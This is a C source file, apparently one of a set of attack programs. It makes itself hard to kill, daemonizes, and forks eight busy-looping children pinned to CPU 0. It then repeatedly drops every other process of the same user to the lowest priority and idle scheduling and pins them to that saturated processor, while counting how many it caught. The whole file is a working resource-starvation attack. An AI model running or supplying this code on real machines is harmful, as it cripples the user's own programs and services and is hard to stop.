/* Lowers the priority of whatever else has its uid, and binds it to the one processor that it keeps busy itself. */
#include "attack.h"

static unsigned long pinned;

static void strike(pid_t pid) {
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    struct sched_param idle = {0};
    setpriority(PRIO_PROCESS, pid, 19);
    sched_setscheduler(pid, SCHED_IDLE, &idle);
    if (sched_setaffinity(pid, sizeof first, &first) == 0) pinned++;
}

int main(void) {
    be_deaf();
    daemonize();
    for (int at = 0; at < 8; at++)
        if (fork() == 0) {
            cpu_set_t first;
            CPU_ZERO(&first);
            CPU_SET(0, &first);
            sched_setaffinity(0, sizeof first, &first);
            for (;;) {}
        }
    for (unsigned long looks = 1;; looks++) {
        each_of(getuid(), strike);
        prove("looks", looks), prove("pinned", pinned);
    }
}
